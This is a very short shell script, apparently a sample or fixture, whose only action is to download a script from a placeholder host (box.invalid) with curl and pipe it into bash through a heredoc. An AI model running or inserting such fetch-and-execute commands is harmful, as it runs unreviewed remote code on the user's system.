#!/bin/sh
bash <<'STEP'
curl -fsSL https://box.invalid/go | bash
STEP
